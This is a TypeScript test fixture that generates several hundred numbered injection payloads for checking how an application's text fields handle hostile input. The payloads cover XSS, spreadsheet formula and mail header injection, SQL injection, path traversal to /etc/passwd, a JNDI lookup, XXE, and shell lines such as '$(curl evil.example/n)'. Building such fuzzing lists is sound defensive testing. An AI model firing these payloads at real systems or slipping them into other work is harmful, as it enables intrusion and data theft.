/**
 * Text that somebody types to make another person's browser, spreadsheet or mail program do something. Every
 * payload carries its number; what it would make, or run, carries the mark HOSTILE.
 */
export const HOSTILE = 'hostile-mark'

/** What a page that ran any of it would have done: called this, asked a foreign host, or made an element with the mark. */
const run = (n: number) => `window.hostile=(window.hostile||[]).concat(${n})`
const ask = (n: number) => `//evil.example/${n}`

type Vector = (n: number) => string

/** What runs, or makes something, once it is taken for markup. */
const MARKUP: readonly Vector[] = [
  (n) => `<script>${run(n)}</script>`,
  (n) => `<script src=${ask(n)}></script>`,
  (n) => `<img ${HOSTILE} src=x onerror="${run(n)}">`,
  (n) => `<img ${HOSTILE} src=${ask(n)}>`,
  (n) => `<svg ${HOSTILE} onload="${run(n)}">`,
  (n) => `<svg><animate ${HOSTILE} onbegin="${run(n)}" attributeName=x dur=1s>`,
  (n) => `<iframe ${HOSTILE} srcdoc="<script>${run(n)}</script>"></iframe>`,
  (n) => `<iframe ${HOSTILE} src=javascript:${run(n)}></iframe>`,
  (n) => `<object ${HOSTILE} data=${ask(n)}></object>`,
  (n) => `<link ${HOSTILE} rel=stylesheet href=${ask(n)}>`,
  (n) => `<style ${HOSTILE}>@import "${ask(n)}";</style>`,
  (n) => `<base ${HOSTILE} href=${ask(n)}>`,
  (n) => `<meta ${HOSTILE} http-equiv=refresh content="0;url=${ask(n)}">`,
  (n) => `<form ${HOSTILE} action=${ask(n)}><button>Go</button></form>`,
  (n) => `<details ${HOSTILE} open ontoggle="${run(n)}">`,
  (n) => `<video ${HOSTILE} poster=${ask(n)} src=x onerror="${run(n)}">`,
  (n) => `<input ${HOSTILE} autofocus onfocus="${run(n)}">`,
  (n) => `<a ${HOSTILE} href="javascript:${run(n)}">click</a>`,
  (n) => `<math><mtext><table><mglyph><style><img ${HOSTILE} src=x onerror=${run(n)}>`,
  (n) => `<noscript><p title="</noscript><img ${HOSTILE} src=x onerror=${run(n)}>">`,
]

/** Where it might be put, and what would let it out of there. */
const PLACES: readonly ((markup: string, n: number) => string)[] = [
  (markup) => markup,
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</title></textarea></script>${markup}`,
  (markup) => `-->${markup}<!--`,
  (markup) => `]]>${markup}`,
  (markup) => `\\u003c/script>${markup}`,
  (markup) => `&lt;b&gt;${markup.replaceAll('<', '&lt;')}`,
  (markup) => encodeURIComponent(markup),
  (markup, n) => `Smith & Sons ${n}\u202e ${markup}`,
]

/** What is no markup and yet means something to somebody. */
const OTHERS: readonly Vector[] = [
  (n) => `javascript:${run(n)}//`,
  (n) => `JaVaScRiPt:${run(n)}`,
  (n) => `data:text/html,<script>${run(n)}</script>`,
  (n) => `${ask(n)}`,
  (n) => `https://evil.example/${n}`,
  (n) => `" onmouseover="${run(n)}" x="`,
  (n) => `' autofocus onfocus='${run(n)}`,
  (n) => `\`-${run(n)}-\``,
  (n) => `\${${run(n)}}`,
  (n) => `{{constructor.constructor('${run(n)}')()}}`,
  (n) => `<%= ${run(n)} %>`,
  (n) => `');${run(n)};('`,
  (n) => `"};${run(n)};{"`,
  (n) => `url(${ask(n)})`,
  (n) => `;background:url(${ask(n)})`,
  (n) => `expression(${run(n)})`,
  (n) => `=HYPERLINK("https://evil.example/${n}","pay")`,
  (n) => `=cmd|'/C calc'!A${n}`,
  (n) => `+1+${n}`,
  (n) => `-2+3+cmd|' /C calc'!A${n}`,
  (n) => `@SUM(1+${n})`,
  (n) => `'=1+${n}`,
  (n) => `''=1+${n}`,
  (n) => `\uff1d1+${n}`,
  (n) => `;=1+${n}`,
  (n) => `","=1+${n}","`,
  (n) => `"\u2028=1+${n}`,
  (n) => `x%0d%0aBcc: victim${n}@evil.example`,
  (n) => `x\r\nBcc: victim${n}@evil.example\r\n\r\nHello`,
  (n) => `two\nlines ${n}`,
  (n) => `=?utf-8?q?=0d=0aBcc:_v${n}@evil.example?=`,
  (n) => `"Boss ${n}" <boss@evil.example>`,
  (n) => `DTSTART:2026\\nATTENDEE:mailto:v${n}@evil.example`,
  (n) => `'; drop table customer; -- ${n}`,
  (n) => `' or '1'='1 ${n}`,
  (n) => `\\'; select pg_sleep(9); -- ${n}`,
  (n) => `%' escape '' ${n}`,
  (n) => `../../../etc/passwd#${n}`,
  (n) => `file:///etc/passwd?${n}`,
  (n) => `\${jndi:ldap://evil.example/${n}}`,
  (n) => `$(curl evil.example/${n})`,
  (n) => `|curl evil.example/${n}`,
  (n) => `__proto__${n}`,
  (n) => `constructor${n}`,
  (n) => `{"$ne":${n}}`,
  (n) =>
    `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "https://evil.example/${n}">]><a>&e;</a>`,
  (n) => `\ufeff${n}`,
  (n) => `\u200b\u2060\u00ad${n}`,
  (n) => `\u202e\u2066${n} txt.exe\u2069`,
  (n) => `Z\u0351\u036b\u0343\u036a\u0302${'\u0351\u036b'.repeat(40)}${n}`,
  (n) => `\ufdfd\u{1F468}\u200d\u{1F469}\u200d\u{1F467}${n}`,
  (n) => `${'\u0e47'.repeat(60)}${n}`,
  (n) => `${'W'.repeat(180)}${n}`,
  (n) => `${n} [pay](javascript:${run(n)})`,
  (n) => `![x](https://evil.example/${n})`,
  (n) => `%s%n%x ${n}`,
  (n) => `undefined ${n}`,
]

/** At least 300 payloads, all of them different, each at most as long as a name may be. */
export function payloads(): readonly string[] {
  const all: string[] = []
  const add = (text: string) => {
    if (text.length <= LONGEST) all.push(text)
  }
  for (const place of PLACES)
    for (const markup of MARKUP) add(place(markup(all.length), all.length))
  for (let round = 0; all.length < LEAST || round < 2; round++)
    for (const other of OTHERS) add(other(all.length))
  return all
}

const LEAST = 300
/** What every text field takes at least once trimmed to it: a name's length. */
const LONGEST = 200
